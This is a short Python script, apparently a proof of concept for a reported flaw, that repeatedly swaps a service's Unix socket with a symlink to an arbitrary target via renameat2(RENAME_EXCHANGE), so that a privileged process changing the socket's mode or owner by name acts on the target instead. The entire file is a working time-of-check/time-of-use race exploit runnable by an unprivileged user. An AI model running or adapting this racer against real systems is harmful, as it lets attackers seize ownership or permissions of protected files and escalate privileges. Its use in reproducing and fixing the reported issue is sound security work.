"""Swap a socket's name with a symlink, as fast as possible: the attack of issue 11 point 1.

Run as the service user who may write the socket directory:
``python3 symlink_racer.py SOCKET_PATH TARGET SECONDS``. A symlink to TARGET is made next to
SOCKET_PATH, "ready" is printed; then the two names are exchanged with
renameat2(RENAME_EXCHANGE) in a loop (while the socket exists), so that whoever changes the
socket's mode or owner by name hits TARGET instead half of the time. Prints the number of
exchanges that succeeded. Only the standard library, so that Debian's
``/usr/bin/python3`` runs it as an unprivileged user.
"""

from __future__ import annotations

import ctypes
import os
import sys
import time
from pathlib import Path

RENAME_EXCHANGE = 2
AT_FDCWD = -100


def main() -> None:
    """Race until the time is up."""
    socket_path, target, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    link = Path(socket_path).parent / ".racer-link"
    link.symlink_to(target)
    libc = ctypes.CDLL(None, use_errno=True)
    renameat2 = libc.renameat2
    old, new = os.fsencode(socket_path), os.fsencode(link)
    exchanged = 0
    print("ready", flush=True)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if renameat2(AT_FDCWD, old, AT_FDCWD, new, RENAME_EXCHANGE) == 0:
            exchanged += 1
    print(exchanged)


if __name__ == "__main__":
    main()
